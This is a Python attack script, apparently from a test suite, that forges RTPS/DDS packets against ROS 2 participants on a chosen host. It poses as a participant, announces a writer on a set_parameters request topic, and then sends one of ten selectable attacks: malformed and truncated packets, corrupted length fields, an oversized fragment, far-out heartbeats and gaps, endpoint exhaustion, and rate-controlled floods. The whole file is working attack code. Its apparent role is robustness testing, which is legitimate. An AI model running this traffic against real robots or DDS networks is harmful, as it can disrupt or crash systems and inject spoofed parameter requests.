"""Traffic that means harm, against the participants of one host in a network of the tests' own.

    python3 attack.py --domain 40 [--host 127.0.0.1] [--seconds 5] [--rate 2000] [--seed 1] KIND

Speaks RTPS (2.3) byte by byte over plain sockets. It first makes itself known as a participant does, with a writer of a topic
that nodes hear, so that what comes then reaches their readers. Ends by itself and prints what it has sent, in JSON.
"""

import argparse
import json
import random
import socket
import struct
import time

KINDS = ["random", "truncated", "lengths", "encapsulation", "mutated", "huge-fragment", "far-heartbeat", "far-gap", "endpoints", "flood"]
SPDP_WRITER, SPDP_READER = b"\x00\x01\x00\xc2", b"\x00\x01\x00\xc7"
PUBLICATIONS_WRITER, PUBLICATIONS_READER = b"\x00\x00\x03\xc2", b"\x00\x00\x03\xc7"
DATA, DATA_FRAG, HEARTBEAT, GAP = 0x15, 0x16, 0x07, 0x08


def sequence(number):
    return struct.pack("<iI", number >> 32, number & 0xFFFFFFFF)


def submessage(kind, flags, body, length=None):
    return struct.pack("<BBH", kind, flags | 1, len(body) if length is None else length) + body


def parameter(identity, value):
    value += b"\0" * (-len(value) % 4)
    return struct.pack("<HH", identity, len(value)) + value


def text(word):
    word = word.encode() + b"\0"
    return struct.pack("<I", len(word)) + word


def locator(address, port):
    return struct.pack("<iI", 1, port) + b"\0" * 12 + socket.inet_aton(address)


class Stranger:
    """A participant that is nobody's friend."""

    def __init__(self, domain, host, participants, chance):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.connect((host, 7400))
        address = self.socket.getsockname()[0]
        self.socket.close()
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        self.socket.bind((address, 0))
        self.here = (address, self.socket.getsockname()[1])
        self.host, self.domain = host, domain
        self.prefix = b"\x01\x10" + bytes(chance.randrange(256) for _ in range(10))
        self.header = b"RTPS\x02\x03\x01\x10" + self.prefix
        ports = [7400 + 250 * domain + 10 + 2 * number for number in range(participants)]
        self.discovery, self.user = ports, [port + 1 for port in ports]
        self.sent = self.bytes = 0

    def send(self, submessages, ports):
        message = self.header + submessages
        for port in ports:
            try:
                self.socket.sendto(message, (self.host, port))
                self.sent += 1
                self.bytes += len(message)
            except OSError:
                pass

    def data(self, reader, writer, number, payload):
        body = struct.pack("<HH", 0, 16) + reader + writer + sequence(number) + payload
        return submessage(DATA, 4, body)

    def announce(self):
        parameters = [
            parameter(0x0015, b"\x02\x03"),
            parameter(0x0016, b"\x01\x10"),
            parameter(0x0050, self.prefix + b"\x00\x00\x01\xc1"),
            parameter(0x0058, struct.pack("<I", 0x3F)),
            parameter(0x0032, locator(*self.here)),
            parameter(0x0031, locator(*self.here)),
            parameter(0x0002, struct.pack("<iI", 10, 0)),
            struct.pack("<HH", 1, 0),
        ]
        self.send(self.data(SPDP_READER, SPDP_WRITER, 1, b"\x00\x03\x00\x00" + b"".join(parameters)), self.discovery)

    def publish(self, number, topic, kind, reliable=True):
        """Announces writer `number` of a topic."""
        guid = self.prefix + self.writer(number)
        parameters = [
            parameter(0x005A, guid),
            parameter(0x0050, self.prefix + b"\x00\x00\x01\xc1"),
            parameter(0x0005, text(topic)),
            parameter(0x0007, text(kind)),
            parameter(0x001A, struct.pack("<IiI", 2 if reliable else 1, 0, 0)),
            parameter(0x001D, struct.pack("<I", 0)),
            parameter(0x002F, locator(*self.here)),
            struct.pack("<HH", 1, 0),
        ]
        payload = b"\x00\x03\x00\x00" + b"".join(parameters)
        return self.data(PUBLICATIONS_READER, PUBLICATIONS_WRITER, number, payload)

    @staticmethod
    def writer(number):
        return number.to_bytes(3, "big") + b"\x03"

    def heartbeat(self, reader, writer, first, last, count):
        return submessage(HEARTBEAT, 0, reader + writer + sequence(first) + sequence(last) + struct.pack("<I", count))


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("--domain", type=int, required=True)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--rate", type=float, default=2000.0, help="messages a second to each participant")
    parser.add_argument("--participants", type=int, default=40, help="how many of the host are sent to")
    parser.add_argument("--topic", default="rq/feeder/courier_driver/set_parametersRequest")
    parser.add_argument("--type", default="rcl_interfaces::srv::dds_::SetParameters_Request_")
    parser.add_argument("--seed", type=int, default=1)
    arguments = parser.parse_args()
    chance = random.Random(arguments.seed)
    stranger = Stranger(arguments.domain, arguments.host, arguments.participants, chance)
    anyone = b"\0\0\0\0"
    writer = stranger.writer(1)
    for _ in range(3):
        stranger.announce()
        time.sleep(0.1)
        stranger.send(stranger.publish(1, arguments.topic, arguments.type), stranger.discovery)
        stranger.send(stranger.heartbeat(PUBLICATIONS_READER, PUBLICATIONS_WRITER, 1, 1, 1), stranger.discovery)
    good = stranger.publish(2, "rt/harm", "std_msgs::msg::dds_::String_")

    def noise(length):
        return chance.randbytes(length)

    def message(number):
        """What is sent, and to which ports."""
        both = stranger.discovery + stranger.user
        match arguments.kind:
            case "random":
                return noise(chance.randrange(1, 1400)), both
            case "truncated":
                return good[: chance.randrange(len(good))], both
            case "lengths":
                wrong = bytearray(good)
                at = chance.choice([2, 28, 32, 52, chance.randrange(0, len(good) - 4)])
                wrong[at : at + 4] = struct.pack("<I", chance.choice([0xFFFFFFFF, 0x7FFFFFFF, 0xFFFF, 0x80000000]))
                return bytes(wrong), both
            case "encapsulation":
                payload = noise(2) + b"\0\0" + noise(64)
                return stranger.data(anyone, writer, number, payload), stranger.user
            case "mutated":
                wrong = bytearray(good)
                for _ in range(chance.randrange(1, 8)):
                    wrong[chance.randrange(len(wrong))] = chance.randrange(256)
                return bytes(wrong), both
            case "huge-fragment":
                body = struct.pack("<HH", 0, 28) + anyone + writer + sequence(number)
                body += struct.pack("<IHHI", 1, 1, 1024, 0xFFFFFFF0) + noise(1024)
                return submessage(DATA_FRAG, 0, body), stranger.user
            case "far-heartbeat":
                return stranger.heartbeat(anyone, writer, 1, (1 << 62) + number, number), both
            case "far-gap":
                body = anyone + writer + sequence(1) + sequence((1 << 62) + number) + struct.pack("<II", 32, 0xFFFFFFFF)
                return submessage(GAP, 0, body), both
            case "endpoints":
                return stranger.publish(number + 1, f"rt/harm/{number}", "std_msgs::msg::dds_::String_"), stranger.discovery
            case "flood":
                return stranger.data(anyone, writer, number, b"\x00\x01\x00\x00" + b"\0" * 20), stranger.user

    began = time.monotonic()
    number = 0
    limit = 10_000 if arguments.kind == "endpoints" else 1 << 40
    while time.monotonic() < began + arguments.seconds and number < limit:
        number += 1
        submessages, ports = message(number)
        stranger.send(submessages, ports)
        if number % 500 == 0:
            stranger.announce()
            if arguments.kind == "endpoints":
                stranger.send(stranger.heartbeat(PUBLICATIONS_READER, PUBLICATIONS_WRITER, 1, number + 1, number), stranger.discovery)
        ahead = began + number / arguments.rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    took = time.monotonic() - began
    print(json.dumps(dict(kind=arguments.kind, messages=number, datagrams=stranger.sent, bytes=stranger.bytes, seconds=round(took, 2))))


if __name__ == "__main__":
    main()
